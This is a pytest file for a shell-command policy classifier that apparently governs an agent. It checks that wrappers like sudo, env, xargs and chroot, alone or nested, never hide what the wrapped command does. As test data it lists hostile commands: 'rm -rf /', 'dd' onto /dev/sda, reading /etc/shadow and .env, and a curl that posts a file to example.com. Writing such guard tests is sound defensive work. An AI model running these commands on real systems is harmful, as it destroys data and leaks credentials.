"""A wrapper is never less dangerous than what it starts: a law over every entry that starts one.

The wrappers are found in the entries, by their roles, so a new one is tested the day it is added.
"""

import shlex
from collections.abc import Iterator
from itertools import chain

import pytest

from policy.classify import classify
from policy.load import load, pack
from policy.model import Context, Effect, Exec, Request, Subject
from policy.programs.index import packaged
from policy.programs.spec import NO_COMMAND, Option, Role, Spec

WORKSPACE = "/home/dev/work"
CONTEXT = Context(workspace=WORKSPACE, home="/home/dev", user="dev", host="builder")
SUBJECT = Subject("agent:test@1000", "s", 1000, "local")
DEV_SAFE = load([pack("dev-safe")], check_examples=False)

WRAPPED = [
    "ls -la src",
    "cat README.md",
    "make test",
    "touch notes.txt",
    "git status",
    "rm -rf src",
    "curl -d @notes.txt https://example.com",
    "python3 -c 'import os'",
    "cat /home/dev/notes.txt",
    "chmod 777 /srv/x",
    "git push --force origin main",
    "no-such-program x",
    "rm -rf /",
    "cat /etc/shadow",
    "cat .env",
    "tee /etc/passwd",
    "mkfs.ext4 /dev/sda1",
    "kill -9 1",
    "dd if=/dev/zero of=/dev/sda",
    "shutdown now",
]


def effect_of(argv: list[str]) -> Effect:
    request = Request(SUBJECT, Exec(None, tuple(argv), WORKSPACE), "exec")
    return classify(request, DEV_SAFE, CONTEXT).effect


# Finding the wrappers


def calls() -> Iterator[tuple[str, list[str], str]]:
    """Yield every way an entry takes a command: its name, the words before it, how it is given."""
    first_names = {id(packaged()[name]): name for name in sorted(packaged(), reverse=True)}
    for name in sorted(first_names.values()):
        for words, spec in meanings([name], packaged()[name]):
            yield from calls_of(name, words, spec)


def meanings(words: list[str], spec: Spec) -> Iterator[tuple[list[str], Spec]]:
    """Yield a spec, its modes and its sub-commands, with the words that choose each."""
    yield words, spec
    for option_name, option in spec.options.items():
        if option.mode in spec.modes and (option.takes is None or option.takes.optional):
            yield [*words, option_name], spec.modes[option.mode]
    for pattern, child in spec.commands.items():
        named = pattern if pattern == "*" else pattern.translate(PLAIN)
        if pattern not in (NO_COMMAND, "*"):
            yield from meanings([*words, *fixed(spec.args or ()), named], child)


PLAIN = str.maketrans({"*": "x", "?": "x", "[": "", "]": ""})


def fixed(roles: tuple[Role, ...]) -> list[str]:
    """Return a word for each role before the command."""
    words = {"text": "5", "fs.list": "lock", "fs.read": "root", "cd": "sub"}
    return [words.get(role.name, "word") for role in roles if not role.repeats]


def calls_of(name: str, words: list[str], spec: Spec) -> Iterator[tuple[str, list[str], str]]:
    roles = spec.args or ()
    for at, role in enumerate(roles):
        if role.name in ("command", "module", "shell"):
            yield name, [*words, *fixed(roles[:at])], role.name + ("..." if role.repeats else "")
            break
    for option_name, option in spec.options.items():
        takes = option.takes
        if takes is not None and takes.name in ("command", "command;", "shell") and len(words) == 1:
            attached = takes.optional or option_name.endswith("=")
            yield name, [*words, option_name], "attached" if attached else takes.name


CALLS = [(name, tuple(words), how) for name, words, how in calls()]


def wrap(words: tuple[str, ...], how: str, command: str) -> list[str]:
    match how:
        case "command" | "module" | "shell...":
            return [*words, *shlex.split(command)]
        case "command;":
            return [*words, *shlex.split(command), ";"]
        case "attached" if words[-1].startswith("--"):
            return [*words[:-1], f"{words[-1]}={command}"]
        case "attached":
            return [*words[:-1], words[-1] + command]
        case _:
            return [*words, command]


# The law


def test_the_entries_hold_many_ways_to_start_a_command():
    assert len({name for name, _, _ in CALLS}) >= 100
    assert {how for _, _, how in CALLS} >= {"command", "command;", "shell", "shell..."}


# An entry that lost its role would drop out of the law unseen.
KNOWN = """
    sudo doas su runuser pkexec setpriv run0 chroot unshare nsenter systemd-run bwrap firejail env
    nice ionice nohup setsid stdbuf timeout time taskset chrt choom watch entr watchexec xargs
    parallel flock find fd busybox strace ltrace valgrind script screen tmux xterm hyperfine
    faketime fakeroot tini chpst sh bash zsh fish eval exec command builtin trap ssh
    npx poetry bundle pipenv docker podman git
"""


@pytest.mark.parametrize("name", KNOWN.split())
def test_a_program_known_to_start_others_is_among_them(name):
    assert any(True for words, spec in meanings([name], packaged()[name])
               for _ in calls_of(name, words, spec))  # fmt: skip


EFFECTS = {command: effect_of(shlex.split(command)) for command in WRAPPED}


def test_the_wrapped_commands_have_every_effect():
    assert set(EFFECTS.values()) == set(Effect)


@pytest.mark.untraced
@pytest.mark.threat("T02")
@pytest.mark.parametrize("how", sorted({how for _, _, how in CALLS}))
def test_a_wrapper_is_never_less_than_what_it_wraps(how):
    found = [
        f"{shlex.join(argv)}: {effect.name}, alone {EFFECTS[command].name}"
        for _, words, given in CALLS
        if given == how
        for command in WRAPPED
        # What nobody describes may be a script of the project, which a module's runner knows.
        if (how, command) != ("module", "no-such-program x")
        for argv in [wrap(words, how, command)]
        for effect in [effect_of(argv)]
        if effect < EFFECTS[command]
    ]
    assert found == []


def takes_words(option: Option) -> bool:
    return option.takes is not None and not option.takes.optional


@pytest.mark.untraced
@pytest.mark.threat("T02")
def test_no_option_of_a_wrapper_hides_what_it_wraps():
    """`sudo -u x rm -rf /`, with every option of every entry whose words are a command."""
    found = [
        shlex.join(argv)
        for name, words, how in CALLS
        if how == "command" and len(words) - 1 == len(packaged()[name].args or ()) - 1
        for option_name, option in packaged()[name].options.items()
        if option.mode is None and (option.takes is None or option.takes.name == "text")
        for value in [["x"] * (1 + len(option.more)) if takes_words(option) else []]
        for argv in [[name, option_name, *value, *words[1:], "rm", "-rf", "/"]]
        if not option_name.endswith("=") and effect_of(argv) is not Effect.DENY
    ]
    assert found == []


NESTED = ["sudo", "env", "nice", "timeout 5", "xargs", "nohup", "busybox", "strace", "chroot root"]


@pytest.mark.threat("T02")
@pytest.mark.parametrize("outer", NESTED)
def test_wrappers_of_wrappers_hide_nothing(outer):
    for inner in NESTED:
        argv = list(chain(outer.split(), inner.split(), ["rm", "-rf", "/"]))
        assert effect_of(argv) is Effect.DENY, shlex.join(argv)
